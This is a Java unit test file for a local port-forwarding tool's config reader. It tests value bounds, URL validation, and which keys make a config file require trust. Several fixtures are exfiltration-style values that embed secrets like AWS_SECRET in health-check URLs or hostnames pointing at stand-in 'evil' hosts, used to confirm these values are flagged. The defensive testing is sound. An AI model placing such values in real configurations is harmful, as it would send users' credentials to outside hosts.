package dev.localport.config;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import java.util.List;
import java.util.Objects;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** The last value that fits, the first that does not, and which keys make a file need trust. */
class BoundsTest {
  private static final String SERVICE = "{name: db, connection: {resource_name: db}, ports: ['1']";

  private static ConfigResult read(String text) {
    return ConfigReader.read("localport.yaml", "version: '1.0'\n" + text, false);
  }

  private static ConfigResult readService(String key) {
    return read("services:\n- " + SERVICE + ", " + key + "}\n");
  }

  private static ConfigFile file(String text) {
    return switch (read(text)) {
      case ConfigResult.Loaded(ConfigFile file) -> file;
      case ConfigResult.Refused(var problems) -> throw new AssertionError(problems);
    };
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "priority: -1000",
        "priority: 1000",
        "hold: {max_connections: 1}",
        "hold: {max_connections: 10000}",
        "reconnect: {jitter: 0}",
        "reconnect: {jitter: 1}",
        "reconnect: {multiplier: 100}",
        "reconnect: {initial_delay: 9s, max_delay: 9s}",
        "heartbeat: {interval: 2s, timeout: 100ms, give_up: 2s}",
        "heartbeat: {give_up: 5m}",
        "idle_timeout: 24h"
      })
  void theLastValueFits(String key) {
    assertThat(readService(key)).isInstanceOf(ConfigResult.Loaded.class);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "priority: -1001",
        "priority: 1001",
        "hold: {max_connections: 0}",
        "hold: {max_connections: 10001}",
        "reconnect: {jitter: -0.01}",
        "reconnect: {jitter: 1.01}",
        "reconnect: {multiplier: 100.5}",
        "reconnect: {initial_delay: 9001ms, max_delay: 9s}",
        "heartbeat: {interval: 1999ms}",
        "heartbeat: {timeout: 99ms}",
        "heartbeat: {give_up: 1999ms}",
        "heartbeat: {give_up: 301s}",
        "idle_timeout: 86401s"
      })
  void theNextValueDoesNot(String key) {
    assertThat(readService(key)).isInstanceOf(ConfigResult.Refused.class);
  }

  @Test
  void aFileMayHaveOneMebibyteAndNotAByteMore() {
    String text = "version: '1.0'\nservices: []\n#";
    String full = text + "x".repeat(1024 * 1024 - text.length());

    assertThat(ConfigReader.read("f", full, false)).isInstanceOf(ConfigResult.Loaded.class);
    assertThat(ConfigReader.read("f", full + "x", false)).isInstanceOf(ConfigResult.Refused.class);
    assertThat(ConfigReader.read("f", full.substring(1) + "é", false))
        .as("two bytes in one letter")
        .isInstanceOf(ConfigResult.Refused.class);
  }

  @ParameterizedTest
  @CsvSource({
    "--limit=1, 1",
    "--limit=10000, 10000",
    "--limit=0, ",
    "--limit=10001, ",
  })
  void aLimitOfKubectlHasBounds(String flag, Integer limit) {
    String text =
        "services: []\ndefaults: {cluster_health: {commands: {events_on_failure:"
            + " {command: [kubectl, get, events, -n, a, %s, --field-selector=x=y]}}}}\n"
                .formatted(flag);

    switch (read(text)) {
      case ConfigResult.Loaded(ConfigFile file) -> {
        ClusterQuery events = file.clusters().of("any").queries().eventsOnFailure();
        assertThat(events.limit()).isEqualTo(limit);
        assertThat(events.namespace()).as("a flag keeps those before it").isEqualTo("a");
        assertThat(events.fieldSelector()).isEqualTo("x=y");
      }
      case ConfigResult.Refused(var problems) -> assertThat(limit).as("" + problems).isNull();
    }
  }

  @ParameterizedTest
  @CsvSource({"1ms, true", "0, false", "0s, false"})
  void aTimeoutOfKubectlIsMoreThanNothing(String time, boolean fits) {
    ConfigResult result =
        read(
            "services: []\ndefaults: {cluster_health: {commands: {cluster_info:"
                + " {command: [kubectl, cluster-info, --request-timeout=%s]}}}}\n".formatted(time));

    assertThat(result instanceof ConfigResult.Loaded).isEqualTo(fits);
  }

  @ParameterizedTest
  @CsvSource({
    "/healthz?a=b, true",
    "http://web, true",
    "https://me:pw@web:65535/x, true",
    "'http://[::1]:80?q', true",
    "http://web:65536/, false",
    "http://web:0/, false",
    "http://web:http/, false",
    "http://::1/, false",
    "http:///healthz, false",
    "ftp://web/, false",
    "healthz, false"
  })
  void theUrlOfACheckIsOneThatCanBeAskedFor(String url, boolean fits) {
    ConfigResult result =
        read(
            "services: []\ndefaults: {health_check: {type: http, config: {url: '%s'}}}\n"
                .formatted(url));

    assertThat(result instanceof ConfigResult.Loaded).isEqualTo(fits);
  }

  @Test
  void aCheckOfAnotherKindTakesNothingOver() {
    ConfigFile file =
        file(
            "defaults: {health_check: {type: http, interval: 7, config: {url: /a}}}\nservices:\n- "
                + SERVICE
                + ", health_check: {type: tcp}}\n- "
                + SERVICE.replace("name: db,", "name: web,")
                + ", health_check: {config: {url: /b, expected_content: ok}}}\n");

    HealthCheckConfig tcp =
        Objects.requireNonNull(file.services().getFirst().tuning().healthCheck());
    HealthCheckConfig http =
        Objects.requireNonNull(file.services().getLast().tuning().healthCheck());
    assertThat(tcp.probe()).isEqualTo(new HealthProbe.Tcp(null, null));
    assertThat(tcp.interval()).isEqualTo(Duration.ofSeconds(7));
    assertThat(((HealthProbe.Http) http.probe()).expectedContent()).isEqualTo("ok");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "kubeconfig: theirs\nservices: []\n",
        "notify: [{on: [connected], command: [a]}]\nservices: []\n",
        "services: []\ncluster_contexts: {dev: {kubeconfig: theirs}}\n",
        "services: []\ndefaults: {health_check: {type: exec, config: {command: [a]}}}\n",
        "services:\n"
            + "- {name: db, connection: {resource_name: db}, ports: ['1'], health_check: {type:"
            + " exec, config: {command: [a]}}}\n"
      })
  void whatRunsProgramsOrUsesOtherCredentialsNeedsTrust(String text) {
    assertThat(file(text).sensitive()).hasSize(1);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = ';',
      value = {
        "health_check: {type: http, config: {url: 'http://evil/?k=${AWS_SECRET:x}'}};"
            + " services[0].health_check.config.url: sends AWS_SECRET over the network",
        "health_check: {type: https, config: {url: /, headers: {A: '${T:x}', B: '${U:y}${T:z}'}}};"
            + " services[0].health_check.config.headers: sends T, U over the network",
        "health_check: {type: tcp, config: {host: '${SECRET:x}.evil.example'}};"
            + " services[0].health_check.config.host: sends SECRET over the network",
        "health_check: {type: tcp, config: {port: '${PIN:80}'}};"
            + " services[0].health_check.config.port: sends PIN over the network",
        "bind_address: 0.0.0.0, expose: true;"
            + " services[0].expose: lets others on the network connect"
      })
  void whatLeavesThisMachineOrOpensItNeedsTrustByName(String key, String refused) {
    assertThat(file("services:\n- " + SERVICE + ", " + key + "}\n").sensitive())
        .singleElement()
        .asString()
        .endsWith(refused);
  }

  @Test
  void allElseNeedsNone() {
    String plain =
        ", description: '${ME:x}', expose: false, health_check: {type: http, config: {url:"
            + " 'http://there/', expected_content: '${WORD:ok}'}}}\n";
    assertThat(file("services:\n- " + SERVICE + ", health_check: {type: tcp}}\n").sensitive())
        .isEqualTo(List.of());
    assertThat(file("services:\n- " + SERVICE + plain).sensitive()).isEqualTo(List.of());
  }
}
